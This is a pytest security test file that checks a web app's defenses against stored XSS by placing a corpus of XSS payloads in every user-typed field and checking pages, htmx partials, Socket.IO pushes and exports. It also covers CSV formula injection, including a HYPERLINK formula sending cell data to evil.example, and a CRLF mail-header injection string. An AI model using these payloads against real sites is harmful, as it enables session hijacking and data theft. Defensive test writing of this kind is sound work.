"""Stored XSS: a payload corpus in every field people type, checked on every surface.

For each payload (script tags, event handlers, SVG, attribute break-outs in both quote
styles, javascript: URLs, template injection, Markdown link/image tricks, htmx attributes,
iframes, a probe element), one review is built through the services with the payload in
every user-typed field — team name, display names, review title and question, candidate
names and descriptions, constraint text, checklist question and reason, criterion name,
score rationale, prototype note (title, friction, pros, cons, Markdown body, link),
disqualification reason, benchmark run (label, server, hardware, notes, file name), decision
(rationale, consequences, tags), sign-off objection, invitation note, API token name. Each
field carries its own marker (``xss<payload><field>``) so the test also proves the field was
rendered at all.

Surfaces: every full page, every htmx partial (step sections and live regions with
HX-Request), every Socket.IO push (presence, candidates, step nav, vote board), the print
page (record) and every export: CSV (formulas neutralised), Markdown matrix and MADR
(rendered with a permissive Markdown renderer, raw HTML on, as docs sites do), JSON (served
as JSON, never HTML, strings intact). HTML is parsed (html.parser) and checked for injected
elements and attributes — not matched as strings.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser

import markupsafe
import pytest
from markdown_it import MarkdownIt

from app.extensions import db
from app.models import Review, Role, Step
from app.reviews import steps
from app.services import (
    benchmarks,
    constraints,
    decisions,
    mapping,
    notes,
    reviews,
    teams,
    tokens,
    votes,
)
from tests.factories import PASSWORD, make_user
from tests.test_benchmarks import AB_TEXT

HX = {"HX-Request": "true"}

# {m} is the field's marker; every payload fits the shortest field (60 chars). A payload that
# would inject an element carries the marker where an injected element is recognisable by it
# (a script body, an attribute name or value, a tag name) or has a handler or a bad URL.
PAYLOADS = {
    "script": "<script>alert('{m}')</script>",
    "img": "<img src=x onerror=alert('{m}')>",
    "svg": "<svg/onload=alert('{m}')>",
    "dq": "\"><script>alert('{m}')</script>",
    "sq": "' onmouseover='alert(1)' {m}='",
    "attr": "\" autofocus onfocus=\"alert('{m}')\" x=\"",
    "jsurl": "javascript:alert('{m}')",
    "template": "{{{{7*7}}}}{{{{config}}}}{m}",
    "mdlink": "[{m}](javascript:alert('{m}'))",
    "mdimage": "![{m}](x\" onerror=\"alert('{m}'))",
    "ahref": "<a href=\"javascript:alert(1)\">{m}</a>",
    "probe": "</textarea></title><xss-probe>{m}",
    "htmx": "<div hx-post=\"/logout\" hx-trigger=\"load\" {m}>x</div>",
    "iframe": "<iframe srcdoc=\"<b>{m}</b>\"></iframe>",
    "details": "<details open ontoggle=alert('{m}')>",
    "style": "<p {m} style=\"background:url(javascript:x)\">x</p>",
}
FIELDS = {
    "tn": "team name", "dn": "display name", "rt": "review title", "rq": "review question",
    "cn": "candidate name", "cd": "candidate description", "ct": "constraint text",
    "cq": "checklist question", "cr": "checklist reason", "cc": "criterion name",
    "sr": "score rationale", "nt": "note title", "nf": "note friction", "np": "note pro",
    "nc": "note con", "nb": "note body (Markdown)", "dq": "disqualification reason",
    "rl": "run label", "rs": "run server", "rh": "run hardware", "rn": "run notes",
    "fn": "file name", "dr": "decision rationale", "dc": "decision consequences",
    "dt": "decision tag", "so": "sign-off reason", "in": "invitation note", "tk": "token name",
}


PERMISSIVE_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def marker(payload: str, code: str) -> str:
    return f"xss{list(PAYLOADS).index(payload):02d}{code}"


# --- parsing HTML and judging what is in it ----------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background",
                  "data", "srcset", "ping", "cite", "longdesc", "manifest", "hx-get", "hx-post",
                  "hx-put", "hx-patch", "hx-delete"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
MARK = re.compile(r"xss\d\d[a-z]{2}")  # a field's marker (see marker())
TEXT_HX = {"hx-confirm", "hx-prompt"}  # htmx shows these to people; they are never code
HX_REQUESTS = {"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"}
SAME_ORIGIN_PATH = re.compile(r"/[\w\-./?=&%~]*")
CONFIRM_MACRO = re.compile(r"^return this\.hasAttribute\('hx-post'\) \|\| confirm\((\".*\")\)$",
                           re.S)
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data:(text|image/svg|application))", re.I)


class Page(HTMLParser):
    """Elements with their attributes, inline script bodies and text, as a browser sees them
    (character references decoded)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self.texts: list[str] = []
        self._script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag == "script":
            self._script = True
            self.scripts.append("")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False

    def handle_data(self, data):
        if self._script:
            self.scripts[-1] += data
        else:
            self.texts.append(data)

    @property
    def content(self) -> str:
        """Everything a person can read or a script could: text and attribute values."""
        values = [v or "" for _, attrs in self.elements for _, v in attrs]
        return "\n".join(self.texts + values)


def injected(html: str) -> list[str]:
    """Every sign that typed text became markup, script or a dangerous URL."""
    page = Page(html)
    problems = []
    for tag, attrs in page.elements:
        if "xss" in tag:
            problems.append(f"an injected <{tag}> element")
        if tag in FORBIDDEN_TAGS:
            problems.append(f"an <{tag}> element")
        if tag == "script":
            src = dict(attrs).get("src")
            if src is not None and not src.startswith("/static/"):
                problems.append(f"a script from {src!r}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                confirm = CONFIRM_MACRO.match(value) if (tag, name) == ("form", "onsubmit") else None
                if confirm is None or not isinstance(json.loads(confirm[1]), str):
                    problems.append(f"<{tag} {name}={value[:80]!r}>")
            if "xss" in name:
                problems.append(f"an injected attribute {name!r} on <{tag}>")
            if name.startswith(("hx-on", "data-hx-on")):
                problems.append(f"an htmx event handler {name!r} on <{tag}>")
            elif name.removeprefix("data-") in HX_REQUESTS:
                if not SAME_ORIGIN_PATH.fullmatch(value):  # typed text may only be a slug
                    problems.append(f"an htmx request to {value[:80]!r}")
            elif (name.startswith(("hx-", "data-hx-")) and name not in TEXT_HX
                  and MARK.search(value)):
                problems.append(f"typed text in <{tag} {name}={value[:80]!r}>")
            if name in URL_ATTRIBUTES and BAD_SCHEME.match(re.sub(r"[\x00-\x20]", "", value)):
                problems.append(f"a {value[:40]!r} URL in <{tag} {name}>")
            if name in ("style", "srcdoc") and MARK.search(value):
                problems.append(f"typed text in <{tag} {name}>")
    problems += [f"typed text in an inline script: {s[:80]!r}" for s in page.scripts
                 if MARK.search(s)]
    return problems


def template_ran(page: Page, payload: str) -> bool:
    """The {{7*7}}{{config}} payload must come out as typed: evaluated by Jinja it gives
    49<Config …>, through str.format {7*7}{config}."""
    if payload != "template":
        return False
    content = page.content
    return bool("<Config" in content or "SECRET_KEY" in content
                or re.search(r"49(\{\{config|\{config|<Config)", content)
                or re.search(r"(?<!\{)\{7\*7\}(?!\})", content))


# --- a review with the payload everywhere ------------------------------------------------------

@dataclass
class Hostile:
    payload: str
    review: Review
    users: dict
    run_id: int
    note_id: int
    constraint_id: int
    criterion_id: int
    session_id: int | None = None
    pushed: list[str] = field(default_factory=list)  # HTML received over Socket.IO

    def text(self, code: str) -> str:
        return PAYLOADS[self.payload].format(m=marker(self.payload, code))


def login(app, user):
    client = app.test_client()
    assert client.post("/login", data={"email": user.email, "password": PASSWORD}).status_code == 303
    return client


def build(app, payload: str, socket_client) -> Hostile:
    def t(code: str) -> str:
        return PAYLOADS[payload].format(m=marker(payload, code))

    users = {role: make_user(t("dn"), f"{role}@example.com")
             for role in ("owner", "facilitator", "member", "observer")}
    owner, fac, member = users["owner"], users["facilitator"], users["member"]
    team = teams.create_team(owner, t("tn"))
    for role in (Role.FACILITATOR, Role.MEMBER, Role.OBSERVER):
        teams.accept_invitation(users[role.value], teams.create_invitation(
            owner, team, role, timedelta(days=1)))
    teams.create_invitation(owner, team, Role.MEMBER, timedelta(days=1), note=t("in")[:120])
    tokens.create_token(member, t("tk"))
    review = reviews.create_review(owner, team, title=t("rt"), question=t("rq"),
                                   template="blank", extra_candidates=["Alpha", "Beta"])
    watcher = socket_client(login(app, users["observer"]), review.id)
    socket_client(login(app, member), review.id)  # presence: a display name is pushed
    hostile = reviews.add_candidate(owner, review, t("cn"), t("cd"))
    doomed = reviews.add_candidate(owner, review, "Gamma", "")
    constraint = constraints.add_constraint(owner, review, kind="freeform", priority="must",
                                            knockout=True, description=t("ct"))
    constraints.add_constraint(owner, review, kind="latency_p95_ms", priority="should",
                               target=100, description=t("ct"))
    constraints.add_question(owner, review, t("cq"), [hostile.name], t("cr"))
    constraints.answer_question(owner, review, review.checklist[-1]["key"], True)  # shows cr
    criterion = mapping.add_criterion(owner, review, t("cc"), 3)
    for user in (owner, fac, member):
        for candidate in review.candidates:
            if candidate.id != doomed.id:
                mapping.score_cell(user, review, criterion.id, candidate.id,
                                   5 if candidate.id == hostile.id else 2, rationale=t("sr"))
    mapping.reveal(fac, review)
    note = notes.add_note(member, review, notes.NoteDraft(
        candidate_id=hostile.id, title=t("nt"), friction=[t("nf")], pros=[t("np")],
        cons=[t("nc")], body=f"# {t('nb')}\n\n{t('nb')} and [link](javascript:alert(1)) "
                             f"<script>alert(1)</script> ![i](javascript:alert(1))",
        links=[f"https://example.com/?q=\"><svg/onload=alert(1)>{marker(payload, 'nl')}"]))
    run = benchmarks.ingest_run(member, review, hostile.id, [benchmarks.IncomingFile(
        t("fn") + ".txt", io.BytesIO(AB_TEXT.encode()))], benchmarks.RunDetails(
        label=t("rl"), server=t("rs"), hardware=t("rh"), notes=t("rn")))
    constraints.disqualify(owner, review, doomed.id, t("dq"), constraint.id)
    reviews.set_step(fac, review, "mapping")  # pushes the step nav
    db.session.expire_all()
    review = db.session.get(Review, review.id)
    built = Hostile(payload, review, users, run.id, note.id, constraint.id, criterion.id)
    built.watcher = watcher
    return built


def _tag(built: Hostile) -> str:
    """Tags are short (30) and split at commas: the payload whole when it fits, else the
    marker first."""
    text = built.text("dt")
    if len(text) <= 30 and "," not in text:
        return text
    return f"{marker(built.payload, 'dt')} {text[:18]}".replace(",", " ")


def vote_and_decide(built: Hostile) -> None:
    review, fac = built.review, built.users["facilitator"]
    hostile = next(c for c in review.candidates if c.name == built.text("cn")[:60].strip())
    session = votes.open_vote(fac, review, votes.VoteSettings("single"))
    for role in ("owner", "facilitator", "member"):
        votes.cast_ballot(built.users[role], review, session.id, hostile.id)
    votes.close_vote(fac, review, session.id)
    built.session_id = session.id
    decisions.draft_decision(fac, review, decisions.DecisionDraft(
        candidate_id=hostile.id, rationale=f"{built.text('dr')}\n\n[why](javascript:alert(1))",
        consequences=f"- {built.text('dc')}\n- <img src=x onerror=alert(1)>",
        tags=_tag(built),
        revisit_on=decisions._today() + timedelta(days=90)))
    decisions.sign(built.users["owner"], review, "agree")
    decisions.sign(fac, review, "agree")
    decisions.sign(built.users["member"], review, "object", built.text("so"))


# --- the surfaces ------------------------------------------------------------------------------

def html_surfaces(app, built: Hostile, stage: str) -> dict[str, str]:
    """Every page and partial a person can open, as facilitator and member (roles see
    different controls: confirm texts, edit forms)."""
    review = built.review
    base = f"/reviews/{review.id}"
    urls = ["/", "/teams", f"/teams/{review.team_id}", "/reviews", base, "/archive",
            "/notifications", "/account/tokens", f"{base}/benchmarks/report", f"{base}/benchmarks/runs/{built.run_id}",
            f"{base}/prototypes/notes/{built.note_id}"]
    step_pages = [f"{base}/steps/{step.value}" for step in Step]
    urls += step_pages + [f"/archive?q={built.text('rt')[:20]}"]
    partials = step_pages + [f"{base}/regions/{name}" for name in steps.live_regions()] + [
        "/", "/teams", f"/teams/{review.team_id}", "/reviews", base, "/archive",
        "/notifications"]
    if stage != "open":  # the record exists once a decision is drafted
        urls.append(f"{base}/record")
        partials.append(f"{base}/record")
    if stage != "signed":
        urls += [f"{base}/prototypes/notes/{built.note_id}/edit",
                 f"{base}/constraints/{built.constraint_id}/edit",
                 f"{base}/criteria/{built.criterion_id}/edit"]
    pages = {}
    for role in ("facilitator", "member"):
        client = login(app, built.users[role])
        for url in urls:
            r = client.get(url)
            if r.status_code == 403 and role == "member" and url.endswith("/edit"):
                continue  # editing criteria is the facilitator's
            assert r.status_code == 200, (role, url, r.status_code)
            pages[f"{role} {url}"] = r.get_data(as_text=True)
        for url in partials:
            r = client.get(url, headers=HX)
            assert r.status_code == 200, (role, url, r.status_code)
            pages[f"{role} HX {url}"] = r.get_data(as_text=True)
    return pages


def pushed_fragments(built: Hostile) -> dict[str, str]:
    received = built.watcher.get_received()
    fragments = {}
    for i, message in enumerate(received):
        args = message["args"][0] if message["args"] else {}
        if message["name"] == "fragment":
            fragments[f"socket fragment {i}"] = args["html"]
        elif message["name"] == "step":
            fragments[f"socket step nav {i}"] = args["nav"]
    return fragments


@pytest.fixture(params=sorted(PAYLOADS))
def hostile(request, app, socket_client):
    return build(app, request.param, socket_client)


def test_payloads_fit_every_field():
    assert all(len(p.format(m=marker(name, "xx"))) <= 60 for name, p in PAYLOADS.items())


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_the_checker_sees_each_payload_when_it_is_not_escaped(name):
    """The judge is not blind: each payload pasted raw into a page (text, a double-quoted and
    a single-quoted attribute, an href, Markdown rendered with raw HTML on) is reported."""
    text = PAYLOADS[name].format(m=marker(name, "tn"))
    raw_contexts = [f"<p>{text}</p>", f'<input value="{text}">', f"<input value='{text}'>",
                    f'<a href="{text}">x</a>', PERMISSIVE_MARKDOWN.render(text)]
    seen = [bool(injected(html)) or template_ran(Page(html.replace("{{7*7}}", "49")), name)
            for html in raw_contexts]
    assert any(seen), name
    # ... while the same text escaped (as Jinja does) is fine everywhere.
    escaped = markupsafe.escape(text)
    assert not injected(f'<p>{escaped}</p><input value="{escaped}"><input value=\'{escaped}\'>')


@pytest.mark.parametrize("html", [
    "<svg/onload=alert(1)>", "<a href=' javascript:alert(1)'>x</a>", "<a href=\"JaVa&#x09;Script:x\">",
    "<img src=x onerror=alert(1)>", "<iframe src=/></iframe>", "<xss-probe>", "<b xss00tn>",
    "<div hx-on:click=alert(1)>", "<form action=javascript:alert(1)>", "<script src=//evil/x.js>",
    "<script>alert('xss00tn')</script>", "<form onsubmit=\"return this.hasAttribute('hx-post') "
    "|| confirm(1);alert(2)\">", "<div hx-get=\"javascript:alert(1)\">",
    "<base href=//evil/>", "<p style=\"x:xss00tn\">", "<div hx-vals='{\"a\": \"xss00tn\"}'>",
])
def test_the_checker_reports_injected_markup(html):
    assert injected(html), html


def test_the_checker_accepts_the_apps_own_confirm_handler():
    message = json.dumps("Delete “<script>xss00tn</script>”?")
    html = (f'<form onsubmit="return this.hasAttribute(\'hx-post\') || confirm({markupsafe.escape(message)})">'
            '<button hx-post="/reviews/1/checklist/script_xss00cq/remove">x</button></form>')
    assert injected(html) == []


def test_every_typed_field_is_inert_on_every_surface(app, hostile):
    surfaces = html_surfaces(app, hostile, "open")
    surfaces |= pushed_fragments(hostile)
    vote_and_decide(hostile)
    hostile.watcher.get_received()
    surfaces |= {f"with draft: {k}": v for k, v in html_surfaces(app, hostile, "draft").items()
                 if "/steps/vote" in k or "/record" in k or "regions/decision" in k}
    votes.push_board(hostile.review)  # the board as pushed to the room
    decisions.sign_off(hostile.users["facilitator"], hostile.review)
    surfaces |= pushed_fragments(hostile)
    surfaces |= {f"signed: {k}": v for k, v in html_surfaces(app, hostile, "signed").items()}

    assert any(k.startswith("socket fragment") for k in surfaces)
    assert any(k.startswith("socket step nav") for k in surfaces)
    problems = {where: found for where, html in surfaces.items() if (found := injected(html))}
    assert not problems, {k: v[:3] for k, v in list(problems.items())[:10]}
    ran = [where for where, html in surfaces.items()
           if template_ran(Page(html), hostile.payload)]
    assert not ran, ran[:10]

    # Each field was rendered somewhere (else this test would prove nothing about it).
    everything = "\n".join(Page(html).content.lower() for html in surfaces.values())
    missing = [FIELDS[code] for code in FIELDS
               if marker(hostile.payload, code) not in everything
               and not (code == "fn" and "/" in PAYLOADS[hostile.payload])]  # the path is cut off
    assert not missing, missing
    pushed = "\n".join(Page(h).content.lower() for k, h in surfaces.items() if "socket" in k)
    for code in ("dn", "cn"):  # presence and candidates are pushed as HTML
        assert marker(hostile.payload, code) in pushed, code


# --- exports ----------------------------------------------------------------------------------

def test_exports_are_inert(app, hostile):
    vote_and_decide(hostile)
    decisions.sign_off(hostile.users["facilitator"], hostile.review)
    client = login(app, hostile.users["observer"])
    base = f"/reviews/{hostile.review.id}"

    for url in (f"{base}/mapping/export.md", f"{base}/record.md"):
        r = client.get(url)
        assert r.status_code == 200 and r.mimetype == "text/markdown"
        assert r.headers["Content-Disposition"].startswith("attachment")
        rendered = PERMISSIVE_MARKDOWN.render(r.get_data(as_text=True))
        found = injected(rendered)
        assert not found, (url, found[:5])
        content = Page(rendered).content.lower()
        assert marker(hostile.payload, "cn") in content and marker(hostile.payload, "cc") in content
        if url.endswith("record.md"):
            for code in ("rt", "tn", "ct", "dr", "dc", "so", "np", "nc", "dq"):
                assert marker(hostile.payload, code) in content, (url, code)

    for url in (f"{base}/record.json", f"{base}/votes/{hostile.session_id}.json"):
        r = client.get(url)
        assert r.status_code == 200 and r.mimetype == "application/json", url
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        data = json.loads(r.get_data(as_text=True))
        strings = "\n".join(_strings(data))
        assert hostile.text("cn") in strings  # kept exactly as typed, not mangled

    r = client.get(f"{base}/mapping/export.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert_formula_safe(r.get_data(as_text=True))


def _strings(data) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for k, v in data.items() for s in [k, *_strings(v)]]
    if isinstance(data, list):
        return [s for item in data for s in _strings(item)]
    return []


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_formula_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"a formula cell: {cell!r}"
    return rows


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C x'",
            "@SUM(1+1)*cmd|' /C x'", "\t=2+2", "\r=3+3", "=1+1"]  # names are stripped


def test_csv_export_neutralises_formulas_in_every_typed_cell(app, world):
    owner = world.users["owner"]
    review = reviews.create_review(owner, world.team, title="=1+1", question="",
                                   template="blank", extra_candidates=FORMULAS[:4])
    criteria = [mapping.add_criterion(owner, review, text, 2) for text in FORMULAS]
    for user in (owner, world.users["facilitator"], world.users["member"]):
        for criterion in criteria:
            for candidate in review.candidates:
                mapping.score_cell(user, review, criterion.id, candidate.id, 3)
    for revealed in (False, True):  # own scores before the reveal, team means after
        if revealed:
            mapping.reveal(world.users["facilitator"], review)
        r = login(app, world.users["member"]).get(f"/reviews/{review.id}/mapping/export.csv")
        rows = assert_formula_safe(r.get_data(as_text=True))
        cells = {cell for row in rows for cell in row}
        for formula in FORMULAS:
            assert "'" + formula.strip()[:60] in cells, formula


def test_typed_line_breaks_cannot_inject_mail_headers(app, world, caplog):
    """A title with CR/LF (the API and a crafted form accept it) reaches mail subjects: it
    must neither add a header nor make opening the vote fail."""
    review = reviews.create_review(world.users["owner"], world.team,
                                   title="Pick\r\nBcc: victim@example.com\r\nX-Evil: 1",
                                   question="", template="blank", extra_candidates=["A", "B"])
    caplog.set_level("INFO", logger="app.mail")
    votes.open_vote(world.users["facilitator"], review, votes.VoteSettings("single"))
    subjects = [r.args[1] for r in caplog.records if r.name == "app.mail"]
    assert subjects and all("\r" not in s and "\n" not in s for s in subjects)
    assert all("Bcc: victim@example.com" in s for s in subjects)  # kept as text, one line
